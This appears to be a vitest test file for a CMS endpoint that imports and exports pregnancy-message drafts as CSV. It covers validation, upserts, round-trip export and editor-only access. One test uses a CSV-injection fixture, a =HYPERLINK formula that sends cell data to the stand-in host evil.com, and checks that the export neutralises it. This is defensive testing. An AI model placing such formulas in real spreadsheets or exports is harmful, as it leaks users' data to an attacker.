import Papa from 'papaparse'
import type { Payload } from 'payload'
import { handleEndpoints } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Cms, startCms } from './support/cms'
import { lexical, messageData } from './support/content'
import { createWorld, type World } from './support/people'
import { login } from './support/rest'

let cms: Cms
let payload: Payload
let world: World
let editorToken: string

beforeAll(async () => {
  cms = await startCms()
  payload = cms.payload
  world = await createWorld(payload)
  editorToken = await login(cms.config, world.users.editor.email)
})
afterAll(() => cms?.stop())

const header = 'slot,audience,language,subject,body,shortText,topics,supervisingExperts'
const csvOf = (...rows: string[]) => [header, ...rows].join('\n')

async function call(method: 'GET' | 'POST', token: string, body?: string) {
  const request = new Request('http://localhost/api/messages/csv', {
    method,
    headers: { authorization: `JWT ${token}`, 'content-type': 'text/csv' },
    body,
  })
  const response = await handleEndpoints({ config: cms.config, request })
  return { status: response.status, text: await response.text() }
}
const count = async () => (await payload.count({ collection: 'messages' })).totalDocs

describe('CSV import and export of messages', () => {
  it('reports every bad row by number in Japanese and English, and imports nothing', async () => {
    const before = await count()
    const response = await call(
      'POST',
      editorToken,
      csvOf(
        'pregnancy/40,primary,ja,今日のお便り,"一段落目\n\n二段落目",短文です,体調|むくみ,助産師 山田',
        'pregnancy/999,primary,ja,今日のお便り,本文,,,',
        'pregnancy/41,primary,ja,今日のお便り,,,,',
        `pregnancy/42,primary,ja,今日のお便り,本文,${'あ'.repeat(661)},,`,
        'pregnancy/40,primary,ja,重複,本文,,,',
      ),
    )
    expect(response.status).toBe(400)
    const { errors } = JSON.parse(response.text) as {
      errors: { row: number; column: string; message: string }[]
    }
    expect(errors.map((e) => [e.row, e.column])).toEqual([
      [3, 'slot'],
      [4, 'body'],
      [5, 'shortText'],
      [6, 'slot'],
    ])
    for (const error of errors) expect(error.message).toMatch(/[\u3040-\u30ff\u4e00-\u9fff].* \/ [A-Za-z]/)
    expect(errors[0]?.message).toMatch(/Unknown slot "pregnancy\/999"/)
    expect(errors[3]?.message).toMatch(/2行目と重複.* \/ .*duplicates row 2/)
    expect(await count()).toBe(before)
  })

  it('reports missing columns', async () => {
    const response = await call('POST', editorToken, 'slot,subject\npregnancy/40,件名')
    expect(response.status).toBe(400)
    expect(response.text).toMatch(/列がありません: audience, language, body.* \/ Missing columns/)
  })

  it('imports drafts, updates them by slot, audience and language, and exports them back', async () => {
    const first = await call(
      'POST',
      editorToken,
      csvOf(
        'pregnancy/50,primary,ja,今日のお便り,"一段落目\n\n二段落目",短文です,体調|むくみ,助産師 山田',
        'pregnancy/50,partner,ja,パートナーの方へ,本文,,,',
      ),
    )
    expect(JSON.parse(first.text)).toEqual({ ok: true, created: 2, updated: 0 })
    const second = await call('POST', editorToken, csvOf('pregnancy/50,primary,ja,改訂したお便り,本文,,,'))
    expect(JSON.parse(second.text)).toEqual({ ok: true, created: 0, updated: 1 })

    const { docs } = await payload.find({
      collection: 'messages',
      where: { slot: { equals: 'pregnancy/50' } },
      sort: 'audience',
    })
    expect(docs.map((d) => [d.audience, d.subject, d.reviewState]).sort()).toEqual([
      ['partner', 'パートナーの方へ', 'draft'],
      ['primary', '改訂したお便り', 'draft'],
    ])

    const exported = await call('GET', editorToken)
    expect(exported.status).toBe(200)
    const rows = Papa.parse<Record<string, string>>(exported.text.replace(/^\uFEFF/, ''), {
      header: true,
    }).data
    expect(rows.find((r) => r.slot === 'pregnancy/50' && r.audience === 'partner')).toMatchObject({
      subject: 'パートナーの方へ',
      body: '本文',
    })
    const again = await call('POST', editorToken, exported.text)
    expect(JSON.parse(again.text)).toMatchObject({ ok: true, created: 0 })
  })

  it('exports formula-like cells as text and imports them back unchanged (CSV injection)', async () => {
    const subject = '=HYPERLINK("https://evil.example/?"&A1,"詳しくはこちら")'
    const shortText = "'=1+1 は書いたまま"
    await payload.create({
      collection: 'messages',
      data: messageData('pregnancy/70', { subject, body: lexical('@ここから'), shortText }),
      overrideAccess: false,
      user: world.users.editor,
    })
    const exported = await call('GET', editorToken)
    const row = Papa.parse<Record<string, string>>(exported.text.replace(/^\uFEFF/, ''), {
      header: true,
    }).data.find((r) => r.slot === 'pregnancy/70')
    expect(row).toMatchObject({ subject: `'${subject}`, body: "'@ここから", shortText: `'${shortText}` })
    for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/)

    const again = await call('POST', editorToken, exported.text)
    expect(JSON.parse(again.text)).toMatchObject({ ok: true, created: 0 })
    const { docs } = await payload.find({
      collection: 'messages',
      where: { slot: { equals: 'pregnancy/70' } },
    })
    expect(docs.map((d) => [d.subject, d.shortText])).toEqual([[subject, shortText]])
    expect(JSON.stringify(docs[0]?.body)).toContain('"@ここから"')
  })

  it('lets only editors import', async () => {
    const viewerToken = await login(cms.config, world.users.viewer.email)
    const response = await call('POST', viewerToken, csvOf('pregnancy/60,primary,ja,件名,本文,,,'))
    expect(response.status).toBe(403)
    expect(
      await payload.count({ collection: 'messages', where: { slot: { equals: 'pregnancy/60' } } }),
    ).toMatchObject({ totalDocs: 0 })
  })
})
